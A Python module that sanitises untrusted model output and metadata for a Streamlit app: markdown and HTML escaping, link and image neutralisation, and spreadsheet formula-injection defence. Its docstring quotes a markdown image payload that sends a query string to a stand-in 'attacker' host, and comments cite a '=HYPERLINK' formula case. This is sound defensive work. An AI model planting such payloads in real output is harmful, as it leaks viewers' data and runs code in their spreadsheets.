"""Untrusted text made safe to render: one place for every page.

Model answers, error bodies, engine and model names, run names, notes, tags, imported
labels and whatever an engine reports about itself are all untrusted: a shared server shows
them to every viewer. Streamlit renders markdown almost everywhere (captions, alerts,
titles, tab, expander and metric labels, radio options, tooltips), images included, so
`![x](http://attacker/?q=...)` in an error body made each viewer's browser fetch that URL,
and a model name with backticks broke out of its code span.

| where the text goes | helper |
|---|---|
| a markdown element, as one line (a name, a label) | `md_line` |
| a markdown element, line breaks kept (an error body, notes) | `md_text` |
| inline code (a URL, a model name shown as code) | `code_span` |
| an answer that may keep its formatting | `safe_answer` |
| HTML given to `unsafe_allow_html` or `st.html` | `html_text` |
| a cell of a CSV file or of a table (`st.dataframe`'s toolbar downloads it as CSV) | `spreadsheet_cell`, `spreadsheet_rows` |

Plotly figures have their own pass (services.core.figures.inert). No Streamlit import: the page
decides where the text goes, these helpers decide what it may contain.
"""

from __future__ import annotations

import html
import json
import re
import unicodedata
from collections.abc import Iterable, Mapping
from typing import Any

from services.core.json_types import JsonOut

#: Characters that make markdown anywhere in a line: emphasis, code, links and images (`[`),
#: HTML, tables, strikethrough, entities, KaTeX's `$` and Streamlit's `:emoji:` shortcodes.
_INLINE_SPECIAL = str.maketrans({char: "\\" + char for char in "\\`*_{}[]<>|~$&:"})
#: What starts a block at the head of a line: heading, quote, list, setext underline, numbered list.
_BLOCK_START = re.compile(r"^(#|>|[-+=]|\d+[.)])")
#: Shown between `!` and `[` inside code, where a backslash would be visible: the pair no
#: longer starts an image wherever the renderer decides the code ends, and looks the same.
_WORD_JOINER = "\u2060"
#: What ends a line, as str.splitlines reads it (the renderer's own lines are a subset).
_LINE_BREAKS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
#: Three or more ` or ~: a fence where it starts a line (after up to three spaces).
_FENCE = re.compile(r"`{3,}|~{3,}")
_LINE_END = re.compile(rf"\r\n|[{_LINE_BREAKS}]")
#: The rest of a closing fence's line: spaces, then its line break (or the end).
_FENCE_CLOSE_TAIL = re.compile(rf"[^\S{_LINE_BREAKS}]*(?:\r\n|[{_LINE_BREAKS}]|\Z)")
_BACKTICKS = re.compile(r"`+")
#: GFM turns bare addresses into links after parsing, escapes or not (`http\\://x` still
#: became a link in Streamlit): an invisible word joiner inside `://`, after `www` and before
#: `@` leaves nothing its autolinker recognises. This finds the place after a `www`.
_WWW_DOT = re.compile(r"(?i)(?<=\bwww)(?=\.)")
#: `[name]: http://...` at the head of a line makes `[name]` anywhere a link.
_LINK_DEFINITION = re.compile(r"^( {0,3})\[(?=[^\]\n]+\]:)", re.MULTILINE)


# ---------------------------------------------------------------------------------------
# Markdown that can only be text
# ---------------------------------------------------------------------------------------


def _unlinked(text: str) -> str:
    # Plain replacements (no Python call per match): "@" * 100,000 takes a millisecond.
    text = text.replace("://", ":" + _WORD_JOINER + "//").replace("@", _WORD_JOINER + "@")
    return _WWW_DOT.sub(_WORD_JOINER, text)


def _escape(line: str) -> str:
    line = _unlinked(line).translate(_INLINE_SPECIAL)
    block = _BLOCK_START.match(line)
    return line if block is None else line[: block.end() - 1] + "\\" + line[block.end() - 1 :]


def md_text(text: str) -> str:
    """Text shown literally by st.markdown/st.caption/st.error: no markup, links, images or
    icons; line breaks kept (leading spaces dropped, so no line becomes a code block)."""
    return "  \n".join(_escape(line.strip()) for line in str(text).splitlines())


def md_line(text: str | None) -> str:
    """One line of literal text (a name, a prompt summary, a widget label)."""
    return _escape(" ".join(str(text or "").split()))


def code_span(text: str | None) -> str:
    """An inline code span that shows `text` whole, backticks included: the fence is longer
    than any run of backticks inside, and the padding spaces are dropped by the renderer."""
    value = " ".join(str(text or "").split())
    if not value:
        return ""
    longest = max((len(run) for run in _BACKTICKS.findall(value)), default=0)
    fence = "`" * (longest + 1)
    return f"{fence} {value} {fence}"


def safe_answer(text: str) -> str:
    """A model's answer as markdown that keeps its formatting (paragraphs, lists, code) but
    can load nothing and link nowhere: images become a text placeholder and no `![` is left
    to form one; links, link definitions, `<...>` and bare addresses show as their text."""
    out: list[str] = []
    for is_code, part in _split_code(text or ""):
        if is_code:
            out.append(part.replace("![", "!" + _WORD_JOINER + "["))
        else:
            part = _images_as_text(part)
            part = _LINK_DEFINITION.sub(r"\1\\[", part)
            part = _unlinked(part).replace("](", "]\\(").replace("<", "\\<")
            out.append(part.replace("![", "!\\["))
    return "".join(out)


def _image_placeholder(alt: str, url: str) -> str:
    alt = md_line(alt) or "no description"
    url = md_line(url)
    return f"\\[image not loaded: {alt}{' · ' + url if url else ''}\\]"


# Everything below reads an answer in one pass, each character a bounded number of times: an
# answer is the engine's (a viewer can make one write what they like), shown to everyone who
# opens the exchange, and a backtracking regex for images took 99 s on `![a](` and 60,000 spaces.


# A run of one class of characters, matched where it starts: linear, nothing to backtrack into.
_SPACES = re.compile(r"\s*")
_DESTINATION = re.compile(r"[^()<>\s]*")
_ALT = re.compile(r"[^\[\]\n]*")
_TITLE = {'"': re.compile(r'[^"\n]*'), "'": re.compile(r"[^'\n]*")}


def _skip(run: re.Pattern[str], text: str, at: int) -> int:
    """Where the run of `run`'s characters from `at` ends."""
    found = run.match(text, at)
    assert found is not None  # a starred class matches, if only nothing
    return found.end()


def _image_at(text: str, start: int) -> tuple[int, str, str] | None:
    """The image `![alt](url "title")` that starts at `start`, as (its end, alt, url): what
    markdown's inline image reads (a destination, perhaps in <...>, perhaps a title in quotes).
    Where the title is not closed on its line, no image."""
    end = len(text)
    close = _skip(_ALT, text, start + 2)
    if close >= end or text[close] != "]" or text[close + 1 : close + 2] != "(":
        return None
    alt = text[start + 2 : close]
    after_paren = close + 2
    at = _skip(_SPACES, text, after_paren)
    # Read as the destination (`"t"` may be one), then, that failing, as a title in quotes
    # after the spaces: where the destination is empty.
    for url_from in (at, None) if at > after_paren else (at,):
        if url_from is None:
            url, title_from = "", at
            spaces_before_title = True
        else:
            url_at = url_from + 1 if text[url_from : url_from + 1] == "<" else url_from
            url_end = _skip(_DESTINATION, text, url_at)
            url = text[url_at:url_end]
            after_url = url_end + 1 if text[url_end : url_end + 1] == ">" else url_end
            title_from = _skip(_SPACES, text, after_url)
            if text[title_from : title_from + 1] == ")":
                return title_from + 1, alt, url
            spaces_before_title = title_from > after_url
        quote = text[title_from : title_from + 1]
        if spaces_before_title and quote in ('"', "'"):
            closing = _skip(_TITLE[quote], text, title_from + 1)
            if closing < end and text[closing] == quote:
                paren = _skip(_SPACES, text, closing + 1)
                if text[paren : paren + 1] == ")":
                    return paren + 1, alt, url
    return None


def _images_as_text(text: str) -> str:
    """Every inline image (`![alt](url)`, not after a backslash) as a text placeholder."""
    out: list[str] = []
    done = 0
    at = text.find("![")
    while at != -1:
        found = None if at > 0 and text[at - 1] == "\\" else _image_at(text, at)
        if found is None:
            at = text.find("![", at + 1)
            continue
        end, alt, url = found
        out += (text[done:at], _image_placeholder(alt, url))
        done = end
        at = text.find("![", end)
    out.append(text[done:])
    return "".join(out)


def _line_end(text: str, at: int) -> int:
    """Where the line holding `at` ends, its line break included."""
    found = _LINE_END.search(text, at)
    return len(text) if found is None else found.end()


def _line_start(text: str, run_start: int) -> int | None:
    """The start of the line of a fence that begins at `run_start`, or None where something
    other than up to three spaces comes before it on its line."""
    start = run_start
    while start > 0 and run_start - start < 3 and text[start - 1] == " ":
        start -= 1
    return start if start == 0 or text[start - 1] in _LINE_BREAKS else None


#: Every run of one fence character, whole: a run shorter than the fence is passed over in one
#: step (`{n,}` tried a long run at each of its positions, n^2 on a run of n backticks).
_FENCE_RUNS = {"`": re.compile(r"`+"), "~": re.compile(r"~+")}


def _closing_fence_end(text: str, fence: str, at: int) -> int | None:
    """The end (its line break included) of the first line from `at` that closes `fence`: the
    same character at least as many times, alone on its line but for spaces."""
    runs = _FENCE_RUNS[fence[0]]
    position = at
    while (run := runs.search(text, position)) is not None:
        position = run.end()
        if run.end() - run.start() < len(fence) or _line_start(text, run.start()) is None:
            continue
        tail = _FENCE_CLOSE_TAIL.match(text, run.end())
        if tail is not None:
            return tail.end()
    return None


def _split_code(text: str) -> list[tuple[bool, str]]:
    """(is_code, piece) in order: fenced blocks (an unclosed fence runs to the end, as the
    renderer does while an answer streams) and inline code spans. Getting this wrong is safe
    either way: code gets a word joiner, text gets an escape; neither can form an image."""
    pieces: list[tuple[bool, str]] = []
    prose_from = at = 0
    while (run := _FENCE.search(text, at)) is not None:
        at = run.end()
        line_start = _line_start(text, run.start())
        if line_start is None:
            continue
        line_end = _line_end(text, run.end())
        fence = run.group()
        if fence[0] == "`" and "`" in text[run.end() : line_end]:
            at = line_end  # an inline code span, not a fence
            continue
        closing = _closing_fence_end(text, fence, line_end)
        block_end = len(text) if closing is None else closing
        if line_start > prose_from:
            pieces.extend(_split_inline(text[prose_from:line_start]))
        pieces.append((True, text[line_start:block_end]))
        prose_from = at = block_end
    pieces.extend(_split_inline(text[prose_from:]))
    return pieces


def _split_inline(text: str) -> list[tuple[bool, str]]:
    """Inline code spans: a run of n backticks (not after a backslash) up to the next run of
    exactly n; each run's next of its length is found once, from the end backwards."""
    runs = [(m.start(), m.end()) for m in _BACKTICKS.finditer(text)]
    following: list[int | None] = [None] * len(runs)
    last: dict[int, int] = {}
    for index in range(len(runs) - 1, -1, -1):
        length = runs[index][1] - runs[index][0]
        following[index] = last.get(length)
        last[length] = index
    pieces: list[tuple[bool, str]] = []
    start = index = 0
    while index < len(runs):
        run_start, _ = runs[index]
        closing = following[index]
        if (run_start > 0 and text[run_start - 1] == "\\") or closing is None:
            index += 1
            continue
        if run_start > start:
            pieces.append((False, text[start:run_start]))
        start = runs[closing][1]
        pieces.append((True, text[run_start:start]))
        index = closing + 1
    if start < len(text):
        pieces.append((False, text[start:]))
    return pieces


# ---------------------------------------------------------------------------------------
# HTML
# ---------------------------------------------------------------------------------------


#: Markdown's link, code and KaTeX characters as HTML references, which markdown never reads
#: as markup and the browser shows as the characters themselves.
_HTML_MARKDOWN = str.maketrans({"[": "&#91;", "]": "&#93;", "`": "&#96;", "$": "&#36;"})


def html_text(text: str | None) -> str:
    """Text for HTML given to st.markdown(unsafe_allow_html=True) or st.html: every character
    escaped, line breaks as <br> (a blank line would end the HTML block and let the rest
    render as markdown), and nothing left that markdown could turn into an image or link
    should the HTML not start a block."""
    lines = html.escape(str(text or ""), quote=True).translate(_HTML_MARKDOWN).splitlines()
    return "<br>".join(_unlinked(line.strip()) for line in lines)


# ---------------------------------------------------------------------------------------
# Cells a spreadsheet would run
# ---------------------------------------------------------------------------------------
#: A cell whose text starts with one of these is a formula to a spreadsheet (`=HYPERLINK(...)`
#: in an engine's answer would run when the CSV is opened): such cells get a leading apostrophe.
#: Spreadsheets also read the full-width forms as these (U+FF1D, U+FF0B, U+FF0D, U+FF20); other
#: compatibility forms (the small ＝ of U+FE66, ...) are caught by their NFKC form.
_FORMULA_CHARS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
#: A cell starting with one of these is neutralised whatever follows: a spreadsheet may drop them
#: and read what follows as the cell, or start a new row of cells there.
_BREAKS = frozenset("\t\r\n")


def runs_as_formula(text: str) -> bool:
    if text[:1] in _BREAKS:
        return True
    # Spreadsheets trim leading spaces (LibreOffice's import does by default) and ignore
    # zero-width and control characters: " =1+1" and "\u200b=1+1" are formulas too.
    first = next((c for c in text if not _ignorable(c)), "")
    if first in _FORMULA_CHARS:
        return True
    return not first.isascii() and unicodedata.normalize("NFKC", first)[:1] in _FORMULA_CHARS


def _ignorable(char: str) -> bool:
    return char.isspace() or unicodedata.category(char) in ("Cc", "Cf", "Zs", "Zl", "Zp")


def spreadsheet_cell(value: Any) -> Any:
    """A value as a spreadsheet may take it: text it would run as a formula gets a leading
    apostrophe; anything else is unchanged."""
    if isinstance(value, str) and runs_as_formula(value):
        return "'" + value
    return value


def spreadsheet_rows(rows: Iterable[Mapping[str, object]]) -> list[JsonOut]:
    """A table's rows (names and cells) for `st.dataframe`, whose toolbar's "Download as CSV"
    writes the cells as they are: model text in them must not run when the file is opened."""
    return [{spreadsheet_cell(k): spreadsheet_cell(v) for k, v in row.items()} for row in rows]


def csv_cell(value: Any) -> Any:
    """One value as a CSV cell, neutralised when a spreadsheet would run it: every cell of every
    CSV the product writes goes through here (services/runs/reports/streamed.py)."""
    if isinstance(value, (list, dict)):
        value = json.dumps(value, default=str)
    if value is None:
        return ""
    return spreadsheet_cell(value)
